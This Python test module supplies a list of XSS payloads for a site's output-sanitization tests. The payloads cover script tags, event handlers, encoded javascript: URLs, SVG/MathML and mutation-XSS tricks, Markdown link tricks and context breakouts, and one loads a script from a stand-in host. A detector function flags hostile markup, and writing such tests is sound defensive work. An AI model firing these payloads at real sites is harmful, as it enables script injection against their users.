"""Hostile input for tests/test_xss_everywhere.py, and the check that finds it in our output.

VECTORS: script tags, event handlers, encoded javascript: URLs, SVG and MathML tricks, Markdown
link and image tricks, mutation-XSS shapes, and breakouts aimed at attributes, <title>, JSON-LD.
"""

import json
import re
import warnings

from bs4 import BeautifulSoup, XMLParsedAsHTMLWarning

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&#58;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" \tjavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[link][x]",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--</script><script>alert(1)//-->",
    "\u2028\u2029</script><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite"}
_URL_ATTRIBUTES |= {"srcset"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data:text/html|data:image/svg)", re.I)
_BANNED_ELEMENTS = {"iframe", "object", "embed", "base", "frame", "frameset", "style", "applet", "template"}
_SCRIPT_DATA_TYPES = {"application/ld+json", "application/json"}


def _url_is_hostile(value: str) -> bool:
    compact = re.sub(r"[\x00-\x20]", "", value)
    return bool(_BAD_SCHEME.match(compact))


# A second net over the raw text, for shapes a lenient parser drops but a browser would honour
# (a second <body> lends its attributes to the real one). Escaped text has no "<" to match.
_RAW_PATTERNS = [
    re.compile(r"<script\b(?![^>]*(application/ld\+json|application/json|src=\"/(?!/)))", re.I),
    re.compile(r"<(animate|set)\b", re.I),
]
_TAG = re.compile(r"<[a-z][^<>]*>", re.I)
_QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
_HANDLER = re.compile(r"[\s/]on[a-z]+\s*=", re.I)


def hostile_markup(html: str) -> list[str]:
    """Everything in an HTML document or fragment that a browser could run; empty when clean."""
    found = [f"raw markup {m.group(0)[:40]!r}" for pattern in _RAW_PATTERNS for m in pattern.finditer(html)]
    # An event handler in any tag, once quoted attribute values (where text is harmless) are set aside.
    found += [f"raw handler in {tag[:40]!r}" for tag in _TAG.findall(html) if _HANDLER.search(_QUOTED.sub("", tag))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", XMLParsedAsHTMLWarning)  # feeds and sitemaps are read as a browser would
        soup = BeautifulSoup(html, "lxml")
    for element in soup.find_all(True):
        name = element.name.lower()
        if name == "script":
            kind = (element.get("type") or "").lower()
            src = element.get("src") or ""
            if kind in _SCRIPT_DATA_TYPES:
                found += _json_data_block_problems(element.string or "")
            elif not (src.startswith("/") and not src.startswith("//") and not element.string):  # ours
                found.append(f"script element: {str(element)[:80]}")
        if name in _BANNED_ELEMENTS:
            found.append(f"{name} element")
        if name == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        if name == "form" and not (element.get("action") or "/").startswith("/"):
            found.append(f"form posting elsewhere: {element.get('action')}")
        for attribute, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            lowered = attribute.lower()
            if lowered.startswith("on"):
                found.append(f"event handler {attribute}={value[:40]!r}")
            elif lowered in {"style", "srcdoc"}:
                found.append(f"{attribute} attribute")
            elif lowered in _URL_ATTRIBUTES and _url_is_hostile(value):
                found.append(f"{attribute}={value[:40]!r}")
    return found


def _json_data_block_problems(text: str) -> list[str]:
    # A data block ends at the first "</script" whatever the JSON says; "<!--" can hide it.
    problems = []
    if "</" in text or "<!--" in text.lower():
        problems.append("a JSON data block that could end early")
    try:
        json.loads(text)
    except ValueError:
        problems.append("a JSON data block that is not JSON")
    return problems
